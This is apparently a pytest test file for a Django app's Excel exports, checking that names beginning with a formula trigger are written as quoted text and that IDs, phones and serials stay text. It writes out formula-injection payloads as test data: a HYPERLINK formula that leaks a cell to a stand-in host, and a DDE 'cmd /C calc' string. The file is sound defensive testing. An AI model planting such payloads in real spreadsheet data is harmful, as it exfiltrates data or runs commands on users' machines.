"""Every Excel export writes a formula typed as a name as text (docs/security.md)."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from devices.choices import DeviceStatus
from tests import factories as f
from tests.export_reading import export_bytes
from tests.factories import letter_draft, letter_row_add
from tests.helpers import sign_in

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://x"&D3,"Xem")'


def _cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _full_export(client, cert_request) -> bytes:
    """The letter's export with full values (docs/privacy.md, "Exports, API and documents"):
    the one that holds IDs and phones to keep as text."""
    url = reverse("requests_app:export_full", args=[cert_request.pk])
    return client.post(url, {"reason": "Kiểm tra tệp xuất"}).content


def _assert_no_formula(cells):
    assert cells
    assert not [c for c in cells if c.data_type == "f"]
    assert not [c for c in cells if isinstance(c.value, str) and c.value.startswith("=")]


def test_the_letter_export_writes_a_formula_name_as_text(client, cast):
    cert_request = letter_draft(cast)
    row = letter_row_add(cert_request, cast.clerk_a)
    # The rules refuse such a name now (requests_app.rules); a row saved before they did, or
    # a name changed in the database, must still be exported as text.
    type(row).objects.filter(pk=row.pk).update(full_name=FORMULA)
    sign_in(client, cast.clerk_a)
    cells = _cells(_full_export(client, cert_request))
    _assert_no_formula(cells)
    name = next(c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert name.value == "'" + FORMULA and name.data_type == "s"
    national_id = next(c for c in cells if c.value == "012190001234")
    assert national_id.data_type == "s" and national_id.number_format == "@"


def test_the_device_export_writes_a_formula_name_as_text_and_serials_as_text(client, cast):
    cast.subscriber.full_name = FORMULA
    cast.subscriber.save()
    device = f.DeviceFactory(
        agency=cast.agency_a, holder=cast.subscriber, status=DeviceStatus.HANDED_TO_SUBSCRIBER
    )
    sign_in(client, cast.ca_operator)
    response = client.get(reverse("devices:list"), {"xuat": "xlsx"})
    cells = _cells(export_bytes(response))
    _assert_no_formula(cells)
    name = next(c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert name.value == "'" + FORMULA and name.data_type == "s"
    serial = next(c for c in cells if c.value == device.serial)
    assert serial.data_type == "s" and serial.number_format == "@"


@pytest.mark.parametrize("trigger", ["+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_is_neutralised_and_phones_stay_text(client, cast, trigger):
    payload = f"{trigger}cmd|' /C calc'!A0"
    cert_request = letter_draft(cast)
    row = letter_row_add(cert_request, cast.clerk_a)
    type(row).objects.filter(pk=row.pk).update(full_name=payload)  # as a hostile import would
    sign_in(client, cast.clerk_a)
    cells = _cells(_full_export(client, cert_request))
    assert not [c for c in cells if c.data_type == "f"]
    name = next(c for c in cells if isinstance(c.value, str) and c.value.endswith("!A0"))
    assert name.value.startswith("'") and name.data_type == "s"
    phone = next(c for c in cells if c.value == "0912345678")
    assert phone.data_type == "s" and phone.number_format == "@"
